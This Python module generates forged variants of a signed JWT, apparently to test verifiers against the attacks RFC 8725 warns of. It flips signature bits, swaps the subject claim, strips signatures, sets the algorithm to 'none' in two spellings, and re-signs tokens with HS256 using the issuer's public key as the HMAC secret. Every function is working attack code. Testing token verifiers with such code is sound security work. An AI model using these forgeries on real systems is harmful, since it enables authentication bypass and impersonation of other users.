"""Tokens that nobody issued, made from one that was: what RFC 8725 and its attackers know."""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any

_EC_P256 = bytes.fromhex("3059301306072a8648ce3d020106082a8648ce3d030107034200")
"""SubjectPublicKeyInfo of a P-256 key up to the point itself (RFC 5480 section 2)."""

_RSA = bytes.fromhex("300d06092a864886f70d0101010500")
"""The AlgorithmIdentifier of an RSA key (RFC 3279 section 2.3.1)."""


def parts(token: str) -> tuple[dict[str, Any], dict[str, Any]] | None:
    """Header and claims of a signed JWT in compact form, or None for any other token."""
    if token.count(".") != 2:
        return None
    try:
        *documents, _ = [_bytes(part) for part in token.split(".")]
        header, claims = map(json.loads, documents)
    except (ValueError, binascii.Error):
        return None
    return (header, claims) if isinstance(header, dict) and isinstance(claims, dict) else None


def altered(token: str) -> dict[str, str]:
    """The token with one bit of the signature changed, with another subject, and without its signature."""
    head, body, signature = token.split(".")
    raw = _bytes(signature)
    found = parts(token)
    claims = {} if found is None else found[1]
    somebody_else = f"{claims.get('sub', '')}-other"
    return {
        "signature": f"{head}.{body}.{_text(bytes([raw[0] ^ 1]) + raw[1:] if raw else b'none')}",
        "claims": f"{head}.{_json(claims | {'sub': somebody_else})}.{signature}",
        "no_signature": f"{head}.{body}.",
    }


def unsigned(token: str) -> dict[str, str]:
    """The token with the algorithm ``none`` in two spellings, and with the old signature kept."""
    found = parts(token)
    header = {} if found is None else found[0]
    _, body, signature = token.split(".")
    return {
        "none": f"{_json(header | {'alg': 'none'})}.{body}.",
        "nOnE": f"{_json(header | {'alg': 'nOnE'})}.{body}.",
        "none_signed": f"{_json(header | {'alg': 'none'})}.{body}.{signature}",
    }


def confused(token: str, key: Mapping[str, Any]) -> dict[str, str]:
    """The token signed anew with HS256, the published key being the secret: as PEM, and as the JSON it came in."""
    found = parts(token)
    header = {} if found is None else found[0]
    content = f"{_json(header | {'alg': 'HS256'})}.{token.split('.')[1]}"
    secrets = {"jwk": json.dumps(key, separators=(",", ":")).encode()}
    der = public_key_info(key)
    if der is not None:
        lines = base64.encodebytes(der).replace(b"\n", b"")
        wrapped = b"\n".join(lines[at : at + 64] for at in range(0, len(lines), 64))
        secrets["pem"] = b"-----BEGIN PUBLIC KEY-----\n" + wrapped + b"\n-----END PUBLIC KEY-----\n"
    return {
        name: f"{content}.{_text(hmac.new(secret, content.encode(), hashlib.sha256).digest())}"
        for name, secret in secrets.items()
    }


def public_key_info(key: Mapping[str, Any]) -> bytes | None:
    """The DER SubjectPublicKeyInfo of an RSA or P-256 JWK, or None for another or a broken key."""
    try:
        if key.get("kty") == "EC" and key.get("crv") == "P-256":
            point = b"\x04" + _bytes(key["x"]) + _bytes(key["y"])
            return _EC_P256 + point if len(point) == 65 else None
        if key.get("kty") == "RSA":
            numbers = b"".join(_integer(_bytes(key[name])) for name in ("n", "e"))
            return _der(0x30, _RSA + _der(0x03, b"\0" + _der(0x30, numbers)))
    except (KeyError, ValueError, TypeError, AttributeError, binascii.Error):
        return None
    return None


def _integer(magnitude: bytes) -> bytes:
    digits = magnitude.lstrip(b"\0") or b"\0"
    return _der(0x02, b"\0" + digits if digits[0] & 0x80 else digits)


def _der(tag: int, content: bytes) -> bytes:
    size = len(content)
    if size < 0x80:
        return bytes([tag, size]) + content
    length = size.to_bytes((size.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(length)]) + length + content


def _bytes(text: str) -> bytes:
    return base64.b64decode(text.encode("ascii") + b"=" * (-len(text) % 4), altchars=b"-_", validate=True)


def _text(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def _json(value: Mapping[str, Any]) -> str:
    return _text(json.dumps(value, separators=(",", ":")).encode())
